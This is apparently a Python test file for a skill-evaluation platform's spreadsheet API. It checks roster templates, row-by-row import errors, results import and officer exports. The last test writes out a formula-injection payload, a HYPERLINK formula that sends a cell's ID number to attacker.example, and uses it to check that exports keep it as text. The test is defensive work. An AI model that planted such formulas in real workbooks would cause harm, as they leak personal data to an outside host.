"""Rosters and results as .xlsx: the template's columns are the plan's candidate fields with Chinese
headers; a roster imports into a plan exactly as the JSON candidates would, all or nothing, and every
bad row comes back by row, column and problem — as JSON and as the workbook with the problems marked;
results go in by ID number; officers export a batch's roster, results and certificates and their inbox."""

import datetime as dt
import io
import json

from openpyxl import Workbook, load_workbook
from sqlmodel import select

from models.cases import Candidate, EvaluationPlan
from tasks.adapters.spreadsheets import PROBLEMS_HEADER, RESULTS, ROSTER
from tests.api.conftest import db
from tests.api.helpers import person, plan_body
from tests.api.test_plans_api import enterprise_of

START = dt.date(2026, 9, 21)  # 14 working days after the simulated clock's first day (Guangdong: 10 ahead)


def _plan_fields() -> str:
    body = plan_body(START)
    body.pop("candidates")
    return json.dumps(body, ensure_ascii=False)


def _sheet(rows: list[list], headers: list[str] | None = None) -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.append(headers or [c.header for c in ROSTER])
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _candidate_row(n: int, **changes) -> list:
    values = {"name": f"学员{n}", "id_number": person(n), "relation": "本企业职工", "level": "四级",
              "workplace_region": "440106", "years_in_occupation": 6} | changes
    return [values.get(c.field) for c in ROSTER]


def _import(api, institution_id, enterprise, content, **params):
    return api.post(
        f"/api/v1/institutions/{institution_id}/plans/import",
        params=params,
        headers=enterprise,
        data={"plan": _plan_fields()},
        files={"roster": ("花名册.xlsx", content, "application/octet-stream")},
    )


def _read(content: bytes) -> list[list]:
    return [list(r) for r in load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True)]


def test_the_roster_template_has_the_candidate_fields_with_chinese_headers(api, people):
    answer = api.get("/api/v1/templates/roster.xlsx", headers=people.make("enterprise"))
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("application/vnd.openxml")
    rows = _read(answer.content)
    assert rows[0] == [c.header for c in ROSTER] and rows[0][:4] == ["姓名", "身份证号", "人员类别", "申报等级"]
    assert len(rows) == 2  # one example row
    assert api.get("/api/v1/templates/roster.xlsx").status_code == 401


def test_a_roster_workbook_files_the_plan_with_its_candidates(api, people):
    enterprise, institution_id = enterprise_of(api, people)
    rows = [_candidate_row(n) for n in range(3)]
    if person(1).isdigit():
        rows[1][1] = int(person(1))  # a number typed into the ID column is read as text
    answer = _import(api, institution_id, enterprise, _sheet(rows))
    assert answer.status_code == 201, answer.text
    plan = answer.json()
    assert plan["status"] == "filed" and [c["name"] for c in plan["candidates"]] == ["学员0", "学员1", "学员2"]
    with db(api) as session:
        stored = session.exec(select(Candidate).where(Candidate.plan_id == plan["id"]).order_by(Candidate.id)).all()
        assert [c.level for c in stored] == [4, 4, 4] and stored[0].relation == "employee"
        assert stored[0].eligibility["years_in_occupation"] == 6


def test_twenty_bad_rows_are_all_reported_by_row_and_nothing_is_filed(api, people):
    enterprise, institution_id = enterprise_of(api, people)
    rows = [_candidate_row(n) for n in range(30)]
    bad_rows = list(range(0, 30, 3)) + list(range(1, 30, 3))  # 20 of the 30
    for i in bad_rows[:10]:
        rows[i][1] = "44010619900101123X" if i else "123"  # a wrong check digit / too short
    for i in bad_rows[10:]:
        rows[i][2] = "临时工"  # no such category
    content = _sheet(rows)
    answer = _import(api, institution_id, enterprise, content)
    assert answer.status_code == 422, answer.text
    problems = answer.json()["detail"]
    assert sorted({p["row"] for p in problems}) == sorted(i + 2 for i in bad_rows)
    assert {p["column"] for p in problems} == {"身份证号", "人员类别"}
    assert all(p["problem"] for p in problems)
    with db(api) as session:
        assert session.exec(select(EvaluationPlan).where(EvaluationPlan.institution_id == institution_id)).all() == []

    marked = _import(api, institution_id, enterprise, content, problems="xlsx")
    assert marked.status_code == 422 and marked.headers["content-type"].startswith("application/vnd.openxml")
    sheet = load_workbook(io.BytesIO(marked.content)).active
    header = [c.value for c in sheet[1]]
    assert header[-1] == PROBLEMS_HEADER
    notes = {row: sheet.cell(row=row, column=len(header)).value for row in range(2, 32)}
    assert {row for row, text in notes.items() if text} == {i + 2 for i in bad_rows}
    assert sheet.cell(row=bad_rows[-1] + 2, column=3).fill.fgColor.rgb.endswith("FFC7CE")
    assert sheet.cell(row=bad_rows[-1] + 2, column=3).comment is not None


def test_the_plans_own_rules_point_at_the_rows_that_break_them(api, people):
    enterprise, institution_id = enterprise_of(api, people)
    rows = [_candidate_row(0), _candidate_row(1), _candidate_row(0)]  # row 4 repeats row 2's person
    answer = _import(api, institution_id, enterprise, _sheet(rows))
    assert answer.status_code == 422
    assert [p["row"] for p in answer.json()["detail"]] == [4]


def test_a_sheet_with_the_wrong_columns_or_no_workbook_is_refused_with_the_reason(api, people):
    enterprise, institution_id = enterprise_of(api, people)
    wrong = _import(api, institution_id, enterprise, _sheet([["x"]], headers=["姓名", "电话"]))
    assert wrong.status_code == 422
    assert {"column": "电话", "problem": "未知的列 / unknown column", "row": 1} in wrong.json()["detail"]
    assert any(p["column"] == "身份证号" and "missing" in p["problem"] for p in wrong.json()["detail"])
    broken = _import(api, institution_id, enterprise, b"not a workbook", problems="xlsx")
    assert broken.status_code == 422 and "xlsx" in broken.json()["detail"][0]["problem"]
    empty = _import(api, institution_id, enterprise, _sheet([]))
    assert empty.status_code == 422
    no_plan = api.post(
        f"/api/v1/institutions/{institution_id}/plans/import",
        headers=enterprise,
        data={"plan": "{not json"},
        files={"roster": ("r.xlsx", _sheet([_candidate_row(0)]))},
    )
    assert no_plan.status_code == 422 and no_plan.json()["detail"][0]["field"] == "plan"
    stranger = people.make("enterprise")
    assert _import(api, institution_id, stranger, _sheet([_candidate_row(0)])).status_code == 404


def test_results_round_trip_through_the_batchs_own_sheet(api, people):
    enterprise, institution_id = enterprise_of(api, people)
    plan = _import(api, institution_id, enterprise, _sheet([_candidate_row(n) for n in range(3)])).json()
    with db(api) as session:
        session.get(EvaluationPlan, plan["id"]).status = "awaiting_results"
    template = api.get(f"/api/v1/plans/{plan['id']}/results-template.xlsx", headers=enterprise)
    rows = _read(template.content)
    assert rows[0] == [c.header for c in RESULTS] and [r[0] for r in rows[1:]] == ["学员0", "学员1", "学员2"]
    book = load_workbook(io.BytesIO(template.content))
    for row, (theory, practical) in zip(range(2, 5), ((90, 85), (55, 70), ("八十", 300)), strict=True):
        book.active.cell(row=row, column=3, value=theory)
        book.active.cell(row=row, column=4, value=practical)
    book.active.append(["外人", person(99), 90, 90, None])
    out = io.BytesIO()
    book.save(out)
    refused = api.post(
        f"/api/v1/plans/{plan['id']}/results/import", headers=enterprise, files={"file": ("成绩.xlsx", out.getvalue())}
    )
    assert refused.status_code == 422
    assert sorted({(p["row"], p["column"]) for p in refused.json()["detail"]}) == [
        (4, "操作技能"),
        (4, "理论知识"),
        (5, "身份证号"),
    ]
    for column in (3, 4):
        book.active.cell(row=4, column=column, value=75)
    book.active.delete_rows(5)
    out = io.BytesIO()
    book.save(out)
    taken = api.post(
        f"/api/v1/plans/{plan['id']}/results/import", headers=enterprise, files={"file": ("成绩.xlsx", out.getvalue())}
    )
    assert taken.status_code == 201, taken.text
    officer = people.make("officer", jurisdiction="440100")
    results = _read(api.get(f"/api/v1/plans/{plan['id']}/results.xlsx", headers=officer).content)
    assert [(r[0], r[3], r[4], r[6]) for r in results[1:]] == [
        ("学员0", 90, 85, "合格"),
        ("学员1", 55, 70, "不合格"),
        ("学员2", 75, 75, "合格"),
    ]
    roster = _read(api.get(f"/api/v1/plans/{plan['id']}/roster.xlsx", headers=officer).content)
    assert roster[0] == [c.header for c in ROSTER] and roster[1][:4] == ["学员0", person(0), "本企业职工", 4]
    assert len(_read(api.get(f"/api/v1/plans/{plan['id']}/certificates.xlsx", headers=officer).content)) == 1
    assert api.get(f"/api/v1/plans/{plan['id']}/roster.xlsx", headers=people.make("enterprise")).status_code == 404
    assert (
        api.get(
            f"/api/v1/plans/{plan['id']}/results.xlsx", headers=people.make("officer", jurisdiction="320000")
        ).status_code
        == 404
    )


def test_an_officer_exports_the_inbox(api, people):
    officer = people.make("officer", jurisdiction="440000")
    answer = api.get("/api/v1/inbox.xlsx", headers=officer)
    assert answer.status_code == 200 and _read(answer.content)[0][:3] == ["待办编号", "环节", "案件"]
    assert api.get("/api/v1/inbox.xlsx", headers=people.make("enterprise")).status_code == 403


def test_who_and_when_are_checked_before_an_uploaded_sheet_is_read(api, people):
    enterprise, institution_id = enterprise_of(api, people)
    plan = _import(api, institution_id, enterprise, _sheet([_candidate_row(0)])).json()
    not_a_workbook = b"PK\x03\x04 not really a workbook"
    early = api.post(f"/api/v1/plans/{plan['id']}/results/import", headers=enterprise,
                     files={"file": ("成绩.xlsx", not_a_workbook)})
    assert early.status_code == 409 and "results are taken after the evaluation" in early.json()["detail"]
    with db(api) as session:
        from models.cases import Institution

        session.get(Institution, institution_id).status = "cancelled"
    cancelled = _import(api, institution_id, enterprise, not_a_workbook)
    assert cancelled.status_code == 409 and "取消备案" in cancelled.json()["detail"]


def test_exported_workbooks_carry_a_formula_looking_name_as_text(api, people):
    enterprise, institution_id = enterprise_of(api, people)
    hostile = '=HYPERLINK("http://attacker.example/?"&B2,"点击查看")'
    body = plan_body(START)
    body["candidates"][0]["name"] = hostile  # accepted as a name: it is text, and stays text in every export
    plan = api.post(f"/api/v1/institutions/{institution_id}/plans", json=body, headers=enterprise).json()
    assert plan["candidates"][0]["name"] == hostile
    with db(api) as session:
        session.get(EvaluationPlan, plan["id"]).status = "awaiting_results"
    officer = people.make("officer", jurisdiction="440100")
    for path, who in ((f"/api/v1/plans/{plan['id']}/roster.xlsx", officer),
                      (f"/api/v1/plans/{plan['id']}/results.xlsx", officer),
                      (f"/api/v1/plans/{plan['id']}/results-template.xlsx", enterprise)):
        answer = api.get(path, headers=who)
        assert answer.status_code == 200, path
        cell = load_workbook(io.BytesIO(answer.content)).active["A2"]
        assert (cell.value, cell.data_type) == (hostile, "s"), path
